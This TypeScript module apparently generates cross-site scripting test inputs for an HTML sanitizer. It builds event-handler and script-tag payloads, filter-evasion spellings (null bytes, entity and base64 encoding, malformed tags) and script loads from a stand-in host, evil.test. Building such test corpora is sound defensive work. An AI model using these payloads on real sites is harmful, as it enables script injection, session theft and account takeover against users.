import { code, type Maker } from "./piece";

/** Tags that editors may use, with events triggered by a visitor or by themselves. */
const OWN_TAGS = [
  "p",
  "h2",
  "h3",
  "ul",
  "ol",
  "li",
  "strong",
  "em",
  "sub",
  "a",
  "figure",
  "figcaption",
].concat(["blockquote", "code"]);
const EVENTS = ["onclick", "onmouseover", "onpointerenter", "autofocus tabindex=1 onfocus"];

/** Elements that trigger events by themselves. */
const SELF_STARTING: ((attribute: (name: string) => string) => string)[] = [
  (on) => `<img src=x ${on("onerror")}>`,
  (on) => `<img src="/icon.svg" ${on("onload")}>`,
  (on) => `<svg ${on("onload")}></svg>`,
  (on) => `<body ${on("onpageshow")}>`,
  (on) => `<body ${on("onload")}>`,
  (on) => `<video src=x ${on("onerror")}></video>`,
  (on) => `<video><source src=x ${on("onerror")}></video>`,
  (on) => `<audio src=x ${on("onerror")}></audio>`,
  (on) => `<details open ${on("ontoggle")}><summary>甲</summary></details>`,
  (on) => `<input autofocus ${on("onfocus")}>`,
  (on) => `<input type=image src=x ${on("onerror")}>`,
  (on) => `<select autofocus ${on("onfocus")}></select>`,
  (on) => `<textarea autofocus ${on("onfocus")}></textarea>`,
  (on) => `<button autofocus ${on("onfocus")}>甲</button>`,
  (on) => `<marquee ${on("onstart")}>甲</marquee>`,
  (on) => `<iframe ${on("onload")}></iframe>`,
  (on) => `<iframe src="https://player.bilibili.com/player.html" title="视频" ${on("onload")}></iframe>`,
  (on) => `<object data=x ${on("onerror")}></object>`,
  (on) => `<embed src=/icon.svg ${on("onload")}>`,
  (on) => `<link rel=stylesheet href=x ${on("onerror")}>`,
  (on) => `<style ${on("onload")}></style>`,
  (on) => `<script src=x ${on("onerror")}></script>`,
  (on) => `<svg><animate attributeName=x dur=1s ${on("onbegin")}></svg>`,
  (on) => `<svg><set attributeName=x dur=1s ${on("onbegin")}></svg>`,
  (on) => `<svg><image href=x ${on("onerror")}></image></svg>`,
  (on) => `<svg><a ${on("onfocus")} tabindex=1 autofocus href="#">甲</a></svg>`,
  (on) => `<math><mi ${on("onclick")}>甲</mi></math>`,
  (on) => `<picture><source srcset=x><img ${on("onerror")}></picture>`,
  (on) => `<dialog open ${on("onclick")}>甲</dialog>`,
  (on) => `<div ${on("oncontentvisibilityautostatechange")} style="content-visibility:auto">甲</div>`,
  (on) => `<div contenteditable autofocus ${on("onfocus")}>甲</div>`,
  (on) => `<form ${on("onsubmit")}><button>甲</button></form>`,
  (on) => `<table><tbody><tr><td ${on("onclick")}>甲</td></tr></tbody></table>`,
  (on) => `<table ${on("onclick")}><caption>甲</caption></table>`,
];

/** Spellings of an attribute that a naive filter misses. */
const WRITINGS: ((name: string, value: string) => string)[] = [
  (name, value) => `${name}=${value}`,
  (name, value) => `${name}="${value}"`,
  (name, value) => `${name.toUpperCase()} = '${value}'`,
  (name, value) => `x=y/${name}="${value.replaceAll("_", "&#95;").replace("(", "&lpar;")}"`,
];
/** Further ones, used on pictures only. */
const MORE_WRITINGS: Maker[] = [
  (id) => `<img/src=x/onerror=${code(id)}>`,
  (id) => `<img\nsrc=x\nonerror\n=\n"${code(id)}"\n>`,
  (id) => `<img\tsrc=x\tonerror\f=${code(id)}>`,
  (id) => `<img src=x onerror=\u0000${code(id)}>`,
  (id) => `<img src=x on\u0000error=${code(id)} onerror=${code(id)}>`,
  (id) => `<im\u0000g src=x onerror=${code(id)}><img src=x onerror=${code(id)}>`,
  (id) => `<img src=\`x\` onerror=\`\`;${code(id)}//>`,
  (id) => `<img """><script>${code(id)}</script>">`,
  (id) => `<img src="x\` onerror=1 " onerror=${code(id)}>`,
  (id) => `<img src='x"' onerror='${code(id)}'`.concat(" alt='>'>"),
  (id) => `<img alt=">" src=x onerror=${code(id)}>`,
  (id) => `<img alt='<img src="x">' src=x onerror=${code(id)}>`,
  (id) => `<img src=x onerror=eval(atob('${Buffer.from(code(id)).toString("base64")}'))>`,
  (id) => `<img src=x onerror="&#x5f;&#x5F;&#00114an(${id})">`,
  (id) => `<img src=x onerror="\\u005f_ran(${id})">`,
  (id) => `<image src=x onerror=${code(id)}>`,
  (id) => `<<img src=x onerror=${code(id)}>`,
  (id) => `<p<img src=x onerror=${code(id)}>><img src=x onerror=${code(id)}>`,
  (id) => `<img src=x onerror=${code(id)}//`.concat("<p>甲</p>"),
  (id) => `</p><img src=x onerror=${code(id)}></div></main>`,
];

const SCRIPTS: Maker[] = [
  (id) => `<script>${code(id)}</script>`,
  (id) => `<SCRIPT>${code(id)}</SCRIPT>`,
  (id) => `<script/x>${code(id)}</script >`,
  (id) => `<script\n>${code(id)}</script\t>`,
  (id) => `<script>${code(id)}`,
  (id) => `<script type=module>${code(id)}</script>`,
  (id) => `<script type="text/javascript;version=1">0</script><script type="">${code(id)}</script>`,
  (id) => `<script src="data:text/javascript,${code(id)}"></script>`,
  (id) => `<script src=//evil.test/${id}></script>`,
  (id) => `<script src="https:\\\\evil.test\\${id}"></script>`,
  (id) => `<script defer async crossorigin src=https://evil.test/${id}></script>`,
  (id) => `<scr<script>ipt>${code(id)}</scr</script>ipt><script>${code(id)}</script>`,
  (id) => `<script x="</script>">${code(id)}</script>`,
  (id) => `</script><script>${code(id)}</script>`,
  (id) => `<script><!--\n${code(id)}\n--></script>`,
  (id) => `<svg><script>${code(id)}</script></svg>`,
  (id) => `<svg><script>_&#95;ran(${id})</script></svg>`,
  (id) => `<svg><script href="data:text/javascript,${code(id)}"></script></svg>`,
  (id) => `<svg><script xlink:href="data:text/javascript,${code(id)}" /></svg>`,
  (id) =>
    `<script type="importmap">{"imports":{"x":"data:text/javascript,1"}}</script><script>${code(id)}</script>`,
  (id) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["//evil.test/${id}"],"eagerness":"immediate"}]}</script>`,
];

export const handlers = (): Maker[] => [
  ...SCRIPTS,
  ...MORE_WRITINGS,
  ...OWN_TAGS.flatMap((tag) =>
    EVENTS.map(
      (event): Maker =>
        (id) =>
          `<${tag} ${event}="${code(id)}">甲</${tag}>`,
    ),
  ),
  ...SELF_STARTING.flatMap((element) =>
    WRITINGS.map(
      (write): Maker =>
        (id) =>
          element((name) => write(name, code(id))),
    ),
  ),
];
